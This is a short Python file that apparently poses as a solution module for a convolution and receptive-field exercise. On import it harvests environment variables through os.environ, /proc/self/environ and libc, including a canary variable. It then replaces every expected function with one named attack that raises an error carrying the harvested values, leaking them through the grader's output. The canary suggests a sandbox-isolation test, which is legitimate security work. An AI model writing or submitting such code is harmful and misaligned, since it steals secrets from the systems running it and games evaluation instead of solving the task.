# topic: output_size
"""Reads the environment through Python, the C library, the memory behind argv, and /proc."""

import contextlib
import ctypes
import os

FOUND = [repr(dict(os.environ))]
with contextlib.suppress(OSError):
    FOUND.append(open("/proc/self/environ").read())  # noqa: PTH123, SIM115
libc = ctypes.CDLL(None)
libc.getenv.restype = ctypes.c_char_p
FOUND.append(repr([libc.getenv(name) for name in (b"RECEPTIVE_CANARY", b"PATH", b"HOME")]))
environ, number = ctypes.POINTER(ctypes.c_char_p).in_dll(libc, "environ"), 0
while environ[number]:
    FOUND.append(repr(environ[number]))
    number += 1
print(FOUND)


def attack(*_, **__):
    raise ValueError(" ".join(FOUND)[:2000])


conv_out = tf_out = same_pads_tf = conv2d_out_shape = pool2d_out_shape = attack
unused_pixels = trace = receptive_field = inputs_giving = configs = attack
